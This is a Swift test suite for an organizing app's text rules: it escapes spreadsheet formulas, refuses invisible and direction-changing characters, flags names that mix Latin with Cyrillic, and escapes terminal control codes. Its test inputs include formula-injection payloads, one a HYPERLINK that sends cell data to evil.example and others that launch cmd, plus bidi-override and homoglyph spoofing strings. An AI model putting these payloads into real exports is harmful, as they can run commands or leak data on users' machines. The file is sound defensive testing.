import Foundation
import SolidarityTestSupport
import Testing
@testable import SolidarityCore

@Suite("Text rules: spreadsheet cells, hidden characters, mixed scripts, terminal text, webhook URLs, calendar ends")
struct TextRulesTests {
    /// Each event of a feed by UID, its start, end and duration as Python's icalendar package
    /// decodes them (the independent checker script/test installs into .venv).
    static func icalendarEvents(_ feed: String, in folder: TemporaryFolder) throws -> [String: [String: String]] {
        let file = folder.path("feed.ics")
        try feed.write(toFile: file, atomically: true, encoding: .utf8)
        let script = """
            import json, sys, icalendar
            cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())
            print(json.dumps({str(e.get('UID')): {k: str(e.decoded(k)) for k in ('DTSTART', 'DTEND', 'DURATION') if e.get(k) is not None}
                              for e in cal.walk('VEVENT')}))
            """
        let output = try PythonChecker.run(script, arguments: [file])
        return (try JSONSerialization.jsonObject(with: Data(output.utf8)) as? [String: [String: String]]) ?? [:]
    }

    /// Values a spreadsheet would run, and values that only look like them.
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "=", "+", "-", "@", "'=1+1", "''=1+1", "'@x", "'+cmd", "'", "''", "'plain", "+1 555 call me", "-a",
    ]

    @Test("a cell a spreadsheet would run is written with a ' and reads back as the value, even one that begins with '")
    func cellsRoundTrip() {
        for value in Self.hostile {
            let cell = SpreadsheetCell.written(value)
            let first = cell.unicodeScalars.first
            #expect(!(["=", "+", "-", "@", "\t", "\r"] as [Unicode.Scalar]).contains(first ?? " "), "\(value.debugDescription) → \(cell.debugDescription)")
            #expect(SpreadsheetCell.read(cell) == value, "\(value.debugDescription) → \(cell.debugDescription)")
        }
        #expect(SpreadsheetCell.written("=1+1") == "'=1+1")
        #expect(SpreadsheetCell.written("'=1+1") == "''=1+1")
        #expect(SpreadsheetCell.written("'plain") == "'plain")
    }

    @Test("numbers, phone numbers and ordinary text are written as they are")
    func plainCells() {
        for value in ["-3", "+2.5", "-0.25", "+82 10 5555 0199", "+1 (555) 123-4567", "+44 20 7946 0000", "-1-555-0100", "1,200",
                      "Frente Auténtico del Trabajo", "O'Brien", "", "2024-05-01"] {
            #expect(SpreadsheetCell.written(value) == value, "\(value)")
            #expect(SpreadsheetCell.read(value) == value, "\(value)")
        }
    }

    @Test("a CSV import reads cells written against formulas back to the values exported")
    func importReadsMarkedCells() throws {
        let (store, folder) = try makeStore()
        defer { folder.remove() }
        let names = ["=HYPERLINK(\"http://evil.example\",\"Union\")", "@SUM Workers", "'=Quoted Union", "-Minus Union", "'Plain Union"]
        let csv = #"""
            name,acronym,notes
            "'=HYPERLINK(""http://evil.example"",""Union"")",A0,+1 (555) 123-4567
            '@SUM Workers,A1,+1 (555) 123-4567
            ''=Quoted Union,A2,+1 (555) 123-4567
            '-Minus Union,A3,+1 (555) 123-4567
            'Plain Union,A4,+1 (555) 123-4567
            """#
        let report = try store.importSpreadsheet(Data(csv.utf8), name: "hostile.csv", as: .organizations)
        #expect(report.added == names.count)
        for (index, name) in names.enumerated() {
            let organization = try store.organization("a\(index)")
            #expect(organization.name == name)
            #expect(organization.notes == "+1 (555) 123-4567")
        }
    }

    @Test("names, acronyms, titles and cities refuse invisible and direction-changing characters, naming the character and where it is")
    func hiddenCharactersRefused() throws {
        let cases: [(String, String)] = [
            ("F\u{202E}TA", "U+202E RIGHT-TO-LEFT OVERRIDE at character 2"), ("F\u{200B}AT", "U+200B ZERO WIDTH SPACE at character 2"),
            ("\u{2066}FAT\u{2069}", "U+2066 LEFT-TO-RIGHT ISOLATE at character 1"), ("F\u{200F}AT", "U+200F RIGHT-TO-LEFT MARK"),
            ("F\u{061C}AT", "U+061C ARABIC LETTER MARK"), ("F\u{2060}AT", "U+2060 WORD JOINER"), ("F\u{FEFF}AT", "U+FEFF"),
            ("F\u{180E}AT", "U+180E MONGOLIAN VOWEL SEPARATOR"), ("Sindi\u{00AD}cato", "U+00AD SOFT HYPHEN"),
            ("F\u{E0041}AT", "U+E0041 TAG LATIN CAPITAL LETTER A"), ("\u{3164}", "U+3164 HANGUL FILLER"),
            ("\u{200D}FAT", "U+200D ZERO WIDTH JOINER at character 1"), ("Zero\u{200C}Join", "U+200C ZERO WIDTH NON-JOINER"),
            ("می\u{200C}", "U+200C ZERO WIDTH NON-JOINER at character 3"),
        ]
        for (text, expected) in cases {
            for record in [Organization(name: text), Organization(name: "Sindicato", acronym: text), Organization(name: "Sindicato", city: text)] {
                var record = record
                #expect { try record.validate() } throws: { error in
                    let message = (error as? SolidarityError)?.message ?? ""
                    return message.contains(expected) && !message.contains("\u{202E}")
                }
            }
        }
        var person = Person(name: "Ana", titles: [.init(organization: "ue", title: "Secretary\u{202E}")])
        #expect(throws: SolidarityError.self) { try person.validate() }
        var activity = Activity(kind: .meeting, title: "Meet\u{200B}ing")
        #expect(throws: SolidarityError.self) { try activity.validate() }
        var line = Organization(name: "Two\u{2028}Lines")
        #expect { try line.validate() } throws: { ($0 as? SolidarityError)?.message.contains("line break") == true }
    }

    @Test("a joiner between two letters of a script that needs it is kept, and notes may hold any of them")
    func joinersAndNotesKept() throws {
        for name in ["می\u{200C}خواهم", "क\u{094D}\u{200D}ष", "ශ්\u{200D}රී ලංකා", "Sindicato"] {
            var organization = Organization(name: name, notes: "a \u{202E}note\u{202C} with \u{200B} marks \u{200F}")
            try organization.validate()
        }
        var activity = Activity(kind: .meeting, title: "Meeting", purpose: "Purpose \u{202E}reversed", outcomes: "\u{2066}x\u{2069}")
        try activity.validate()
    }

    @Test("an import refuses a name holding a direction-changing character, at its place in the file")
    func importRefusesHiddenCharacters() throws {
        let (store, folder) = try makeStore()
        defer { folder.remove() }
        let json = #"{"format": "\#(InterchangeDocument.formatTag)", "organizations": [{"handle": "fat", "name": "Frente \u202eTAF", "kind": "union"}]}"#
        #expect { try store.importDocument(Data(json.utf8), name: "bidi.json") } throws: { error in
            let message = (error as? SolidarityError)?.message ?? ""
            return message.contains("$.organizations[0]") && message.contains("U+202E RIGHT-TO-LEFT OVERRIDE")
        }
        #expect { try store.importSpreadsheet(Data("name\nSindi\u{200B}cato\n".utf8), name: "zw.csv", as: .organizations) } throws: {
            ($0 as? SolidarityError)?.message.contains("U+200B ZERO WIDTH SPACE") == true
        }
    }

    @Test("the Script table gives each character its script, and none to digits, punctuation and combining marks")
    func scriptTable() {
        let expected: [(Unicode.Scalar, String?)] = [
            ("A", "Latin"), ("é", "Latin"), ("\u{0410}", "Cyrillic"), ("\u{03B1}", "Greek"), ("\u{4E00}", "Han"), ("\u{3042}", "Hiragana"),
            ("\u{30AB}", "Katakana"), ("\u{AC00}", "Hangul"), ("\u{0645}", "Arabic"), ("\u{0915}", "Devanagari"), ("\u{1401}", "Canadian Aboriginal"),
            ("5", nil), ("-", nil), ("\u{0301}", nil), ("\u{3001}", nil), ("\u{30FC}", nil), ("\u{0378}", nil), ("\u{20000}", "Han"),
        ]
        for (scalar, script) in expected {
            #expect(UnicodeScript.name(of: scalar) == script, "\(TextRules.describe(scalar))")
        }
    }

    @Test("a word mixing Latin and Cyrillic is kept with a warning naming the letter and its script")
    func mixedScriptsWarned() throws {
        let (store, folder) = try makeStore()
        defer { folder.remove() }
        let added = try store.addOrganization(Organization(handle: "fat-2", name: "FАT Mexico", acronym: "FАT"))
        #expect(added.name == "FАT Mexico")
        let warnings = added.mixedScriptWords.map(\.description)
        #expect(warnings.count == 2)
        #expect(warnings.first?.contains(#"U+0410 CYRILLIC CAPITAL LETTER A (Cyrillic) in a Latin word "FАT""#) == true)
        #expect(MixedScriptWord.find(in: "Ѕindicato Nасional", what: "A name").map(\.word) == ["Ѕindicato", "Nасional"])
        #expect(MixedScriptWord.find(in: "ΑBC", what: "A name").first?.strangers.map(\.script) == ["Greek"])
    }

    @Test("Japanese, Korean and Chinese with Latin, and characters of no script, are never warned about")
    func writtenTogetherNotWarned() {
        for name in ["日本労働組合総連合会", "連合ひらがなカタカナRengo", "한국노동조합총연맹", "韓國勞總한국노총", "中华全国总工会ㄅㄆ", "UAW連合",
                     "CUT-Brasil 2024", "Ver.di", "Confédération", "ΓΣΕΕ", "Профсоюз", "اتحاد", "Fédé\u{0301}ration", "UNITE·HERE", "L'Union 1-2-3",
                     "Sindicato (CUT) — Brasil"] {
            #expect(MixedScriptWord.find(in: name, what: "A name").isEmpty, "\(name)")
        }
        #expect(!MixedScriptWord.find(in: "漢かな한", what: "A name").isEmpty)
    }

    @Test("an import keeps a name mixing scripts and lists the warning with where it is")
    func importListsWarnings() throws {
        let (store, folder) = try makeStore()
        defer { folder.remove() }
        let json = #"{"format": "\#(InterchangeDocument.formatTag)", "organizations": [{"handle": "fat", "name": "F\u0410T", "kind": "union"}]}"#
        let report = try store.importDocument(Data(json.utf8), name: "mixed.json")
        #expect(report.added == 1)
        #expect(report.warnings.count == 1 && report.warnings[0].hasPrefix("$.organizations[0]: ") && report.warnings[0].contains("U+0410"))
        let sheet = try store.importSpreadsheet(Data("name,handle\nPrоfsoyuz,profsoyuz\n".utf8), name: "mixed.csv", as: .organizations)
        #expect(sheet.warnings.count == 1 && sheet.warnings[0].hasPrefix("line 2: ") && sheet.warnings[0].contains("CYRILLIC SMALL LETTER O"))
    }

    @Test("control characters are shown as code points in terminal text; line breaks and tabs are kept")
    func visibleText() {
        #expect(TextRules.visible("Evil \u{1B}[31mRed") == "Evil \\u{1B}[31mRed")
        #expect(TextRules.visible("C1\u{9B}2J and \u{7F}") == "C1\\u{9B}2J and \\u{7F}")
        #expect(TextRules.visible("line one\nline\ttwo\r\nthree\rfour") == "line one\nline\ttwo\r\nthree\\u{D}four")
        #expect(TextRules.visible("Frente Auténtico") == "Frente Auténtico")
        #expect(TextRules.printable("Two\nlines \u{202E}x") == "Two\\u{A}lines \\u{202E}x")
    }

    @Test("an activity ending on the last day of year 9999 ends by DURATION, which icalendar reads, not by a date in year 10000")
    func calendarAtTheEndOfTime() throws {
        let (store, folder) = try makeStore()
        defer { folder.remove() }
        _ = try store.log(Activity(id: "lastday", kind: .meeting, title: "Last day", start: try PartialDate("9999-12-30"), end: try PartialDate("9999-12-31")))
        _ = try store.log(Activity(id: "lastyear", kind: .meeting, title: "Last year", start: try PartialDate("9999")))
        _ = try store.log(Activity(id: "usual", kind: .meeting, title: "Usual", start: try PartialDate("9998-12-31")))
        let feed = try store.calendar()
        #expect(!feed.text.contains("DTEND;VALUE=DATE:1000"))
        #expect(feed.text.contains("DTEND;VALUE=DATE:99990101"))
        let byUID = try Self.icalendarEvents(feed.text, in: folder)
        #expect(byUID["lastday@solidarity"]?["DTSTART"] == "9999-12-30" && byUID["lastday@solidarity"]?["DURATION"] == "2 days, 0:00:00")
        #expect(byUID["lastyear@solidarity"]?["DTSTART"] == "9999-01-01" && byUID["lastyear@solidarity"]?["DURATION"] == "365 days, 0:00:00")
        #expect(byUID["usual@solidarity"]?["DTEND"] == "9999-01-01")
    }
}
